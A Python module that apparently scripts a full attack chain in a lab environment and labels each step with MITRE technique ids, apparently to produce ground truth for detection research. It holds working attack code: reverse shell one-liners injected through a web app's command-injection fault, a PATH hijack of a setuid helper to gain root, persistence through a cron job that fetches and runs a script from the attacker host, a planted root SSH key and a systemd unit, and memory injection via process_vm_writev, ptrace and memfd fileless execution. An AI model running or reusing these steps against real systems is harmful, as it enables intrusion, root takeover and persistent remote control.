"""The attack: from a fault in the web application to root, to stay, and into another program's memory.

Each step is done by real programs, in one of several ways that the seed chooses. What it did, when and by which processes,
is written down as it happens.
"""

import os
import random
import re
import select
import shlex
import subprocess
import time
import urllib.parse

# A shell of the application's user, tied to a socket.
SHELLS = {
    "bash": "bash -c 'bash -i >& /dev/tcp/{address}/{port} 0>&1'",
    "python": "python3 -c 'import os,pty,socket;s=socket.create_connection((\"{address}\",{port}));"
              "[os.dup2(s.fileno(),n) for n in (0,1,2)];pty.spawn(\"/bin/bash\")'",
    "netcat": "rm -f /tmp/.p; mkfifo /tmp/.p; sh -i < /tmp/.p 2>&1 | nc {address} {port} > /tmp/.p",
}

# A way back in. None of them runs while the scenario lasts.
STAYS = {
    "cron": ("T1053.003", "echo '17 4 * * * root curl -s http://{address}/s | sh' > /etc/cron.d/.refresh"),
    "key": ("T1098.004", "mkdir -p /root/.ssh; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJJm9sZW5ub3QtYS1yZWFsLWtleS1hdC1hbGwh x' "
                         ">> /root/.ssh/authorized_keys"),
    "unit": ("T1543.002", "printf '[Service]\\nExecStart=/usr/local/lib/.cache/refresh\\nRestart=always\\n' > "
                          "/etc/systemd/system/refresh.service; mkdir -p /etc/systemd/system/multi-user.target.wants; "
                          "ln -s /etc/systemd/system/refresh.service /etc/systemd/system/multi-user.target.wants/refresh.service"),
}

# Finds the secret in the memory of the store's process, and writes into it, as another process.
WRITE = """import ctypes,os,re
class Part(ctypes.Structure): _fields_=[("base",ctypes.c_void_p),("size",ctypes.c_size_t)]
libc=ctypes.CDLL(None,use_errno=True); pid={target}
for line in open("/proc/%d/maps"%pid):
    span,mode=line.split()[:2]
    if not mode.startswith("rw"): continue
    low,high=(int(one,16) for one in span.split("-"))
    own=ctypes.create_string_buffer(high-low)
    here,there=Part(ctypes.addressof(own),high-low),Part(low,high-low)
    if libc.process_vm_readv(pid,ctypes.byref(here),1,ctypes.byref(there),1,0)<=0: continue
    at=own.raw.find(b"the key of the "+b"store")
    if at<0: continue
    new=ctypes.create_string_buffer(b"the key of another",18)
    here,there=Part(ctypes.addressof(new),18),Part(low+at,18)
    libc.process_vm_writev(pid,ctypes.byref(here),1,ctypes.byref(there),1,0)
    break
print("P%dP"%os.getpid())
"""

# The same with ptrace: stops it, reads and writes a word of its stack, and lets it go on.
TRACE = """import ctypes,os
libc=ctypes.CDLL(None,use_errno=True); libc.ptrace.restype=ctypes.c_long; libc.ptrace.argtypes=[ctypes.c_long]*4
pid={target}
libc.ptrace(16,pid,0,0); os.waitpid(pid,0x40000000)
stack=[line for line in open("/proc/%d/maps"%pid) if "[stack]" in line][0]; at=int(stack.split("-")[0],16)+4096
word=libc.ptrace(2,pid,at,0); libc.ptrace(5,pid,at,word); libc.ptrace(17,pid,0,0)
print("P%dP"%os.getpid())
"""

# A program that is in no directory: a copy of `sleep`, run from memory under another name.
MEMORY = """import os
file=os.memfd_create("refresh"); os.write(file,open("/usr/bin/sleep","rb").read())
child=os.fork()
if not child:
    null=os.open("/dev/null",os.O_RDWR); [os.dup2(null,n) for n in (0,1,2)]
    os.execve("/proc/self/fd/%d"%file,["[kworker/1:2]","{pause}"],{{}})
print("P%dP"%child)
"""


class Attack:
    """The steps, in order, and their labels."""

    def __init__(self, machine, seed):
        self.machine = machine
        self.dice = random.Random(f"{seed}/attack")
        self.port = self.dice.choice([443, 4444, 8443, 9001])
        self.labels = []
        self.shell = None

    def run(self, stop):
        """Everything, with an attacker's pauses. Fails if a step did not do what it was to."""
        stay = self.dice.choice(sorted(STAYS))
        inject = self.dice.choice(["write", "trace", "memory"])
        steps = [self.reverse_shell, self.look_around, self.become_root, lambda: self.persist(stay), lambda: self.inject(inject)]
        try:
            for step in steps:
                step()
                if stop.wait(self.dice.uniform(6, 18)):
                    raise RuntimeError("the scenario ended before the attack")
            self.say("exit")
            self.say("exit")
        finally:
            if self.shell:
                self.shell.stdin.close()
                self.shell.kill()

    def label(self, step, technique, way, start, pids, **more):
        self.labels.append({"step": step, "technique": technique, "way": way, "start_ns": start, "end_ns": time.time_ns(),
                            "pids": pids, **more})

    def reverse_shell(self):
        way = self.dice.choice(sorted(SHELLS))
        self.shell = self.machine.outside("nc", "-ln", "-s", self.machine.attacker, "-p", self.port, stdin=subprocess.PIPE,
                                          stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        time.sleep(1)
        start = time.time_ns()
        command = SHELLS[way].format(address=self.machine.attacker, port=self.port)
        fault = urllib.parse.quote(f"localhost; {command}")
        self.machine.outside("curl", "-s", "-o", "/dev/null", "--interface", self.machine.attacker,
                             f"http://{self.machine.address}/app/lookup?host={fault}")
        pid = self.ask("echo P$((0))$$P")
        self.label("reverse-shell", "T1059.004", way, start, [pid], peer=f"{self.machine.attacker}:{self.port}")

    def look_around(self):
        """Discovery: seen, but not a step that must be told."""
        for line in ["id; uname -a", "cat /etc/passwd | tail -5", "find /usr -xdev -perm -4000 -type f", "ls -la /home /srv"]:
            self.say(line)
            time.sleep(self.dice.uniform(1, 4))

    def become_root(self):
        """The helper runs `tail` by its bare name while it is root."""
        for line in ["mkdir -p /tmp/.x", "printf '#!/bin/bash\\nexec /bin/bash -p\\n' > /tmp/.x/tail", "chmod 755 /tmp/.x/tail"]:
            self.say(line)
            time.sleep(self.dice.uniform(0.3, 2))
        start = time.time_ns()
        self.say("PATH=/tmp/.x:$PATH /usr/local/bin/log-report")
        # A shell may read ahead what is for the next one.
        time.sleep(self.dice.uniform(1.5, 3))
        pid = self.ask("echo P$((0))$$P")
        if "uid=0" not in self.ask("id -a; echo P$((0))0P", whole=True):
            raise RuntimeError("the attacker did not become root")
        self.label("privilege-change", "T1548.001", "setuid-helper", start, [pid])

    def persist(self, way):
        technique, command = STAYS[way]
        start = time.time_ns()
        self.say(command.format(address=self.machine.attacker))
        pid = self.ask("echo P$((0))$$P")
        self.label("persistence", technique, way, start, [pid])

    def inject(self, way):
        target = self.pid_of("store.py")
        program, technique = {"write": (WRITE, "T1055"), "trace": (TRACE, "T1055.008"), "memory": (MEMORY, "T1620")}[way]
        start = time.time_ns()
        pid = self.ask("python3 -c " + shlex.quote(program.format(target=target, pause=self.dice.randrange(20, 40))))
        more = {} if way == "memory" else {"target_pid": target}
        self.label("injection", technique, way, start, [pid], **more)

    def pid_of(self, program):
        for pid in (self.machine.cgroup / "cgroup.procs").read_text().split():
            with open(f"/proc/{pid}/cmdline", "rb") as line:
                if program.encode() in line.read():
                    return int(pid)
        raise RuntimeError(f"{program} does not run")

    def say(self, line):
        self.shell.stdin.write(line.encode() + b"\n")
        self.shell.stdin.flush()

    def ask(self, line, whole=False, timeout=20):
        """What the shell answers up to a number between two P."""
        self.say(line)
        answer, until = b"", time.monotonic() + timeout
        while time.monotonic() < until:
            if select.select([self.shell.stdout], [], [], 0.2)[0]:
                answer += os.read(self.shell.stdout.fileno(), 65536)
                # What a terminal echoes is not the answer: there the number is not yet worked out.
                found = re.search(rb"P0?(\d+)P", answer)
                if found:
                    return answer.decode(errors="replace") if whole else int(found[1])
        raise RuntimeError(f"no answer to {line!r}: {answer[-300:]!r}")
